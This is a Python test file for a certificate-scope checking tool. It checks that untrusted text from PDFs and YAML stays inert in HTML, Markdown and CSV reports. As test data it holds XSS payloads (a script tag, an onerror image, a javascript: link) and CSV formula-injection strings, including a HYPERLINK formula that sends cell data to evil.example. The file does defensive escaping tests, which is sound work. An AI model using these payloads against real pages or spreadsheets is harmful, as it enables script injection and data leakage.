"""Text from a PDF or a stack file is untrusted: in every report format it must stay text.

The hostile certificate is generated here (fpdf2, into tmp_path): its scope carries a
``<script>``, a ``{{ 7*7 }}`` template expression and an ``onerror=`` attribute, and its
holder is a spreadsheet formula. HTML and Markdown are checked by parsing what a browser or a
wiki would build from them; CSV by reading it back the way a spreadsheet would.
"""

from __future__ import annotations

import csv
import io
import re
import sys
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Final, Literal

import pytest
from click.testing import CliRunner
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from scopegap.cli import main
from scopegap.domain import (
    Coverage,
    DateValue,
    DocumentScope,
    Evidence,
    Finding,
    Report,
    StackItem,
    TextValue,
)
from scopegap.report import render
from scopegap.report.escape.csv import neutralise
from scopegap.report.escape.markdown import markdown_escape
from scopegap.report.escape.text import text_line

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:  # fixtures/ is not an installed package
    sys.path.insert(0, str(ROOT))

from fixtures.generate_hostile import hostile_certificate  # noqa: E402

NO_SURROGATES: Final[tuple[Literal["Cs"]]] = ("Cs",)
SCRIPT = '<script>alert("x")</script>'
TEMPLATE = "{{ 7*7 }}"
ONERROR = "<img src=x onerror=alert(1)>"
HOLDER = '=HYPERLINK("http://evil.example/?leak="&A1,"Click") Hostile Ltd'
SCOPE = (f"The provision of contact centre services {SCRIPT} using Genesys Cloud CX, "
         f"{TEMPLATE} and {ONERROR} from the Leeds site.")
STACK = """\
vendor: Hostile Contact Services Ltd
contract:
  start: 2025-06-01
  end: 2028-05-31
tools:
  - Genesys Cloud CX
  - "@SUM(1+1) <b>bold</b>"
sites:
  - "-2+3 Leeds"
"""


def _hostile_pdf(path: Path) -> None:
    hostile_certificate(path, HOLDER, SCOPE)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    folder = tmp_path_factory.mktemp("hostile")
    pdf, stack = folder / "hostile_cert.pdf", folder / "stack.yaml"
    _hostile_pdf(pdf)
    stack.write_text(STACK, encoding="utf-8")
    outputs = {}
    for fmt in ("json", "md", "html", "csv"):
        result = CliRunner().invoke(main, ["check", "--stack", str(stack), str(pdf),
                                           "--as-of", "2026-11-22", "--format", fmt])
        assert result.exit_code == 1, result.output
        outputs[fmt] = result.stdout
    return outputs


class _Page(HTMLParser):
    """What a browser would build: the elements, their attributes, and the visible text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.text: list[str] = []
        self.images: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(sorted(name for name, _ in attrs))))
        if tag == "img":
            self.images.append(dict(attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parse(html: str) -> _Page:
    page = _Page()
    page.feed(html)
    page.close()
    return page


_CROP_SRC = re.compile(r"data:image/jpeg;base64,[A-Za-z0-9+/]+=*")


def _assert_inert(html: str, allowed_tags: set[str] | None = None,
                  crops: bool = False) -> str:
    """No script, no event handler; no image but (``crops``) the report's own page crops:
    base64 JPEG data only, lazily loaded, sized."""
    page = _parse(html)
    tags = {tag for tag, _ in page.tags}
    assert "script" not in tags and (crops or "img" not in tags)
    for image in page.images:
        assert _CROP_SRC.fullmatch(image["src"] or "")
        assert set(image) == {"src", "width", "height", "loading", "alt"}
        assert image["loading"] == "lazy"
    assert not [a for _, attrs in page.tags for a in attrs if a.startswith("on")]
    if allowed_tags is not None:
        assert tags <= allowed_tags
    return " ".join("".join(page.text).split())


def test_the_hostile_pdf_really_carries_the_payload(hostile: dict[str, str]) -> None:
    import json

    document = json.loads(hostile["json"])["documents"][0]
    assert document["holder"] == HOLDER
    assert SCRIPT in document["scope_text"] and ONERROR in document["scope_text"]


def test_html_renders_every_payload_as_text(hostile: dict[str, str]) -> None:
    html = hostile["html"]
    text = _assert_inert(html, crops=True)
    for payload in (SCRIPT, TEMPLATE, ONERROR, HOLDER, "@SUM(1+1) <b>bold</b>"):
        assert payload in text
    assert "&lt;script&gt;" in html and "{{ 7*7 }}" in html
    assert "<script" not in html.lower()


def test_markdown_source_and_rendered_page_are_inert(hostile: dict[str, str]) -> None:
    markdown = hostile["md"]
    assert "<script" not in markdown and "{{" not in markdown and "<img" not in markdown
    # A wiki renders it (CommonMark with raw HTML enabled, plus tables): still only text.
    rendered = MarkdownIt("commonmark").enable("table").render(markdown)
    text = _assert_inert(rendered)
    for payload in (SCRIPT, TEMPLATE, ONERROR, HOLDER):
        assert payload in text


def test_csv_neutralises_formulas_from_the_pdf_and_the_stack(hostile: dict[str, str]) -> None:
    rows = list(csv.reader(io.StringIO(hostile["csv"])))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@"))]
    assert "'" + HOLDER in cells  # the holder_mismatch evidence, kept whole behind a quote
    assert "'@SUM(1+1) <b>bold</b>" in cells and "'-2+3 Leeds" in cells


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("  =1+1", "'  =1+1"),
        ("Manila, Philippines", "Manila, Philippines"),
        ("2025-04-04", "2025-04-04"),
        (None, ""),
        (3, "3"),
    ],
)
def test_neutralise(cell: object, expected: str) -> None:
    assert neutralise(cell) == expected


@pytest.mark.parametrize(
    ("value", "raw_must_not_contain"),
    [
        (SCRIPT, "<script"),
        (TEMPLATE, "{{"),
        ("[click](javascript:alert(1))", "[click]"),
        ("![x](http://evil.example/a.png)", "!["),
        ("<!-- hidden -->", "<!--"),
        ("a | b", " | "),
        ("- item", None),
        ("1. item", None),
        ("---", None),
        ("# heading", None),
        ("> quote", None),
        ("*emphasis* and __strong__", None),
        ("&amp; stays &amp;", None),
        ("back\\slash `code`", None),
    ],
)
def test_markdown_escape_breaks_each_construct(value: str,
                                               raw_must_not_contain: str | None) -> None:
    escaped = markdown_escape(value)
    if raw_must_not_contain:
        assert raw_must_not_contain not in escaped
    assert _visible_text(escaped) == value  # one paragraph showing exactly the text
    assert "\n" not in markdown_escape(f"{value}\n# heading")


def _visible_text(markdown: str) -> str:
    return _assert_inert(MarkdownIt("commonmark").render(markdown), {"p"})


@settings(max_examples=300, deadline=None)
@given(st.one_of(
    st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1, max_size=60),
    st.lists(st.sampled_from(["<", ">", "&", "{{", "*", "_", "[", "](", "`", "|", "#", "-",
                              "1.", "\\", "!", "~", "a", " "]), min_size=1, max_size=14)
    .map("".join),
).filter(lambda s: s.strip() != ""))
@example("a\ufffeb")  # a noncharacter (PDFium's mark of a line-end hyphen) is dropped
def test_markdown_escape_renders_exactly_the_text(value: str) -> None:
    """Whatever the PDF says, the rendered Markdown shows those characters and nothing else:
    one paragraph, no element, no lost or added character (whitespace folded) but the
    controls and noncharacters every format drops (``text_line``: U+FFFE, a bidi override)."""
    assert _visible_text(markdown_escape(value)) == " ".join(text_line(value).split())


# Arbitrary text, and text assembled from the pieces markup is made of (random unicode
# rarely spells "<b" by chance).
MARKUP_PIECES = ["<", ">", "&", '"', "'", "=", "/", "!", "-", "script", "b", "img", " ",
                 "onerror", "{{", "}}", "{%", "[", "]", "(", ")", "*", "_", "`", "|", "#",
                 "\\", "x", "1.", "&amp;", "&lt;"]
TEXTS = st.one_of(
    st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1, max_size=40),
    st.lists(st.sampled_from(MARKUP_PIECES), min_size=1, max_size=12).map("".join),
).filter(lambda s: s.strip() != "")


def _report(text: str) -> Report:
    evidence = Evidence(1, text)
    document = DocumentScope(
        path=f"fixtures/{text}.pdf", sha256="0" * 64, kind="iso27001_certificate",
        page_count=1, holder=TextValue(text, evidence), issuer=TextValue(text, evidence),
        scope_text=TextValue(text, evidence),
        window_start=DateValue(date(2025, 1, 1), evidence),
        window_end=DateValue(date(2026, 1, 1), evidence),
        warnings=(text,),
    )
    item = StackItem(name=text, type="tool", line=1)
    return Report(
        as_of=date(2026, 6, 1), vendor=text, documents=(document,),
        coverage=(Coverage(item, "excluded", text, document.path, 1, text, 100.0, text),),
        findings=(Finding("excluded", "high", text, text, document.path, 1, text),
                  Finding("expired", "high", f"{text}.pdf", text, document.path, 1, text)),
    )


@settings(max_examples=60, deadline=None)
@given(TEXTS)
def test_html_structure_does_not_depend_on_the_text(value: str) -> None:
    """The same elements and attributes whatever the text: no value can open or close one."""
    baseline = _parse(render(_report("plain"), "html")).tags
    assert _parse(render(_report(value), "html")).tags == baseline


@settings(max_examples=60, deadline=None)
@given(st.text(st.characters(exclude_categories=NO_SURROGATES), min_size=1, max_size=40))
def test_csv_cells_never_start_a_formula(value: str) -> None:
    rows = list(csv.reader(io.StringIO(render(_report(value), "csv"))))
    assert len(rows) == 1 + 1 + 2  # header, one coverage row, two findings
    for cell in (c for row in rows for c in row):
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
